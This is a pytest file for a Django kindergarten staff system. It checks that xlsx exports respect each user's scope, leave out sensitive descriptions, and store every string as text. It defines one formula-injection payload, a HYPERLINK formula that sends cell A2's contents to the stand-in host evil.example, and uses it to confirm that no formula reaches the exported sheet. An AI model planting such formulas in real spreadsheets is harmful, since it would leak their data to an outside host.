"""xlsx exports of the development lists: the page's scope and filters, every string as text."""

import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from staff.choices import EthicsKind, EthicsSeverity, ProfessionalTitle, StaffRole, TrainingLevel, TrainingMode
from staff.services import (
    cluster_save,
    ethics_record_save,
    pairing_save,
    pay_filing_save,
    team_save,
    title_application_add,
    training_record_add,
)
from tests.conftest import client_for
from tests.factories import KindergartenFactory

from .factories import StaffMemberFactory

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"点击")'


def exported(client, url: str) -> list[list]:
    response = client.get(url)
    assert response.status_code == 200, response
    assert response["Content-Disposition"].startswith("attachment;")
    assert "no-store" in response["Cache-Control"]
    raw = response.content
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml")  # no formula anywhere
    sheet = openpyxl.load_workbook(io.BytesIO(raw)).active
    rows = []
    for row in sheet.iter_rows(min_row=2):
        if row[0].value is None:  # the blank line before the notes
            break
        for cell in row:
            if cell.value == PAYLOAD:
                assert cell.data_type == "s"
        rows.append([c.value for c in row])
    return rows


def has_payload(rows) -> bool:
    return any(PAYLOAD in row for row in rows)


@pytest.fixture
def posts(kg_a, kg_c):
    return StaffMemberFactory(kindergarten=kg_a, person__name="甲"), StaffMemberFactory(
        kindergarten=kg_c, person__name="丙"
    )


def test_training_records(client, posts, kg_a, kg_c, bureau_official, director_a):
    day = timezone.localdate() - datetime.timedelta(days=1)
    fields = dict(attended_on=day, hours=Decimal(2), level=TrainingLevel.KINDERGARTEN, mode=TrainingMode.OFFLINE)
    training_record_add(person=posts[0].person, kindergarten=kg_a, user=bureau_official, title=PAYLOAD, **fields)
    training_record_add(person=posts[1].person, kindergarten=kg_c, user=bureau_official, title="丙园培训", **fields)
    assert "/staff/trainings/export/" in client_for(client, director_a).get("/staff/trainings/").content.decode()
    rows = exported(client, "/staff/trainings/export/")
    assert [r[1] for r in rows] == ["甲"] and has_payload(rows)  # the director: their own kindergarten
    client_for(client, bureau_official)
    assert {r[1] for r in exported(client, "/staff/trainings/export/")} == {"甲", "丙"}
    assert [r[1] for r in exported(client, f"/staff/trainings/export/?kindergarten={kg_c.pk}")] == ["丙"]


def test_title_applications(client, posts, kg_a, kg_c, bureau_official, director_a):
    day = timezone.localdate()
    title = ProfessionalTitle.values[1]
    title_application_add(
        person=posts[0].person, kindergarten=kg_a, title=title, applied_on=day, user=bureau_official, note=PAYLOAD
    )
    title_application_add(person=posts[1].person, kindergarten=kg_c, title=title, applied_on=day, user=bureau_official)
    assert "/staff/titles/export/" in client_for(client, director_a).get("/staff/titles/").content.decode()
    rows = exported(client, "/staff/titles/export/")
    assert [r[0] for r in rows] == ["甲"] and has_payload(rows)


def test_principal_credits(client, kg_a, kg_c, director_a, wangjing_official):
    StaffMemberFactory(kindergarten=kg_a, role=StaffRole.PRINCIPAL, person__name=PAYLOAD)
    StaffMemberFactory(kindergarten=kg_c, role=StaffRole.PRINCIPAL, person__name="丙园长")
    page = client_for(client, director_a).get("/staff/principals/credits/")
    assert "/staff/principals/credits/export/" in page.content.decode()
    rows = exported(client, "/staff/principals/credits/export/")
    assert [r[0] for r in rows] == [PAYLOAD] and rows[0][-1] == "否"  # no stage recorded: behind
    client_for(client, wangjing_official)  # kg_c is in another sub-district
    assert [r[0] for r in exported(client, "/staff/principals/credits/export/?behind=true")] == [PAYLOAD]


def test_ethics_records(client, posts, kg_a, kg_c, bureau_official, director_a):
    for kg, post, text in ((kg_a, posts[0], PAYLOAD), (kg_c, posts[1], "丙园")):
        ethics_record_save(
            kindergarten=kg,
            person=post.person,
            kind=EthicsKind.WARNING,
            severity=EthicsSeverity.GENERAL,
            occurred_on=timezone.localdate(),
            description="事实经过：当事人家庭情况（敏感）",
            outcome=text,
            user=bureau_official,
        )
    assert "/staff/ethics/export/" in client_for(client, director_a).get("/staff/ethics/").content.decode()
    rows = exported(client, "/staff/ethics/export/")
    assert [r[3] for r in rows] == ["甲"] and has_payload(rows)


def test_ethics_export_carries_the_list_columns_not_the_description(client, posts, kg_a, bureau_official):
    """The list page never shows the description (personal, sensitive): neither does its export."""
    secret = "事实经过：当事人家庭情况（敏感）"
    ethics_record_save(
        kindergarten=kg_a,
        person=posts[0].person,
        kind=EthicsKind.VIOLATION,
        severity=EthicsSeverity.SERIOUS,
        occurred_on=timezone.localdate(),
        description=secret,
        user=bureau_official,
    )
    client_for(client, bureau_official)
    page = client.get("/staff/ethics/").content.decode()
    assert secret not in page
    raw = client.get("/staff/ethics/export/").content
    assert secret.encode() not in b"".join(
        zipfile.ZipFile(io.BytesIO(raw)).read(name) for name in zipfile.ZipFile(io.BytesIO(raw)).namelist()
    )
    sheet = openpyxl.load_workbook(io.BytesIO(raw)).active
    assert [c.value for c in sheet[1]] == [
        "发生日期", "幼儿园编码", "幼儿园", "姓名", "类型", "严重程度", "处理结果", "关联案件立案日期",
    ]  # fmt: skip
    assert [c.value for c in sheet[2]][3:7] == ["甲", "违反师德行为", "严重", "处理中"]  # as the page shows it


def test_pay_filings(client, kg_a, kg_c, bureau_official, director_a):
    counts = dict(insurance_required=5, insurance_covered=4, housing_required=5, housing_covered=5)
    counts |= dict(leave_entitled=5, leave_taken=5, rotation_arranged=True)
    line = {
        "role": StaffRole.TEACHER,
        "establishment": "contract",
        "headcount": 5,
        "average_monthly_pay": Decimal(9000),
    }
    for kg, note in ((kg_a, PAYLOAD), (kg_c, "丙园")):
        pay_filing_save(kindergarten=kg, year=2024, lines=[line], user=bureau_official, note=note, **counts)
    assert "/staff/pay/export/" in client_for(client, director_a).get("/staff/pay/").content.decode()
    rows = exported(client, "/staff/pay/export/")
    assert [r[0] for r in rows] == [kg_a.code] and has_payload(rows)
    assert rows[0][2:5] == [2024, 5, 4]


def test_research_clusters_and_pairings(client, kg_a, kg_b, kg_c, bureau_official, director_a):
    cluster_save(user=bureau_official, name=PAYLOAD, lead=kg_a, members=[kg_b])
    cluster_save(user=bureau_official, name="双井片区", lead=kg_c, members=[])
    pairing_save(user=bureau_official, strong=kg_b, weak=kg_a, started_on=timezone.localdate(), goals=PAYLOAD)
    pairing_save(user=bureau_official, strong=kg_c, weak=kg_b, started_on=timezone.localdate(), goals="丙帮乙")
    assert "/staff/research/export/" in client_for(client, director_a).get("/staff/research/").content.decode()
    rows = exported(client, "/staff/research/export/")
    assert [r[0] for r in rows] == [PAYLOAD] and rows[0][2] == 2
    assert "/staff/pairings/export/" in client.get("/staff/pairings/").content.decode()
    rows = exported(client, "/staff/pairings/export/")
    assert [r[3] for r in rows] == [kg_a.name] and has_payload(rows)


def _clusters(user, n: int, start: int) -> None:
    for i in range(start, start + n):
        lead, *members = KindergartenFactory.create_batch(3)
        cluster = cluster_save(user=user, name=f"片区{i:02d}", lead=lead, members=members)
        for team in ("语言组", "艺术组"):
            team_save(user=user, cluster=cluster, name=f"{team}{i:02d}", topic="教研", members=[])


def test_research_export_queries_do_not_grow_with_the_clusters(client, bureau_official, django_assert_max_num_queries):
    """Members and teams are prefetched: the same number of queries for 2 clusters as for 12."""
    client_for(client, bureau_official)
    counts = []
    for n, start in ((2, 0), (10, 2)):
        _clusters(bureau_official, n, start)
        with django_assert_max_num_queries(12) as captured:
            rows = exported(client, "/staff/research/export/")
        counts.append(len(captured))
        assert len(rows) == start + n
    assert counts[0] == counts[1]
    name, _lead, members, names, teams, team_names = rows[0]
    assert (name, members, len(names.split("、")), teams, team_names) == ("片区00", 3, 3, 2, "艺术组00、语言组00")
